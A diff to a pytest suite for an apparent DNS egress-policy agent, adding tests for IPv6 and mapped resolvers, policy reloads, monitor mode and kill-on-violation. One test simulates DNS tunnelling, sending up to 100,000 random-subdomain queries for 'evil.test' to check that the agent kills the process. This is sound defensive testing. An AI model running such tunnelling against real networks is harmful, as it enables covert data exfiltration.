@@ -153,11 +153,46 @@ def test_query_over_tcp_and_to_any_resolver_is_redirected(lab, start_agent, dns_
     assert query(lab, agent, wl, "unlisted.provider.test", "--tcp")["rcodes"] == {str(REFUSED): 1}
 
 
-def test_ipv6_resolver_is_redirected(lab, start_agent, dns_server):
+@pytest.mark.parametrize("server", ["fd00:e9:5::53", f"::ffff:{OTHER_RESOLVER}"])
+def test_ipv6_and_mapped_resolvers_are_redirected(lab, start_agent, dns_server, server):
     wl = unique_name("dns")
     agent = start_agent(dns_policy(wl), [wl])
-    result = query(lab, agent, wl, "api.provider.test", server="fd00:e9:5::53")
+    result = query(lab, agent, wl, "api.provider.test", server=server)
     assert result["rcodes"] == {"0": 1} and result["addresses"] == [Lab.PROVIDER4]
+
+
+def test_resolved_addresses_survive_a_reload_that_drops_the_same_static_rule(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    provider = lab.serve(Lab.PROVIDER4, 443)
+    wildcard = "\n          - {fqdn: '*.azure.test', ports: [443], protocol: tcp}"
+    static = f"\n          - {{cidr: {Lab.PROVIDER4}/32, ports: [443], protocol: tcp}}"
+    agent = start_agent(dns_policy(wl, rules=wildcard + static), [wl])
+    assert query(lab, agent, wl, "eastus.azure.test")["addresses"] == [Lab.PROVIDER4]
+    agent.reload(dns_policy(wl, rules=wildcard))
+    agent.wait_for(lambda e: e["kind"] == "policy_loaded" and e["seq"] > 2)
+    assert run(lab, agent, wl, "tcp", Lab.PROVIDER4, "443")["ok"]  # the answer's allowance stays
+    assert provider.wait_for_bytes(100)
+
+
+def test_monitor_mode_forwards_and_reports_denied_names(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl, mode="monitor", on_violation="kill"), [wl])
+    result = query(lab, agent, wl, "unlisted.provider.test")
+    assert result["rcodes"] == {"0": 1} and result["addresses"] == [Lab.ATTACKER4]
+    event = agent.wait_for(lambda e: e["kind"] == "dns_denied")
+    assert event["verdict"] == "allow" and event["detail"]["mode"] == "monitor"
+    assert not [e for e in agent.events() if e["kind"] == "action_kill"]
+
+
+def test_a_denied_name_is_a_violation(lab, start_agent, dns_server):
+    wl = unique_name("dns")
+    agent = start_agent(dns_policy(wl, on_violation="kill"), [wl])
+    # Enough tunnel queries that the router is still asking when the agent acts.
+    tunnel = agent.router_cmd(wl, "dns", RESOLVER, "53", "{rand}.evil.test", "--count", "100000")
+    router = lab.run_in_router(with_resolv_conf(tunnel), stdout=subprocess.PIPE, text=True)
+    kill = agent.wait_for(lambda e: e["kind"] == "action_kill")
+    assert kill["detail"]["cause_kind"] == "dns_denied"
+    assert router.wait(timeout=10) != 0  # killed before it finished
 
 
 def test_connections_right_after_each_answer_are_never_refused(lab, start_agent, dns_server):
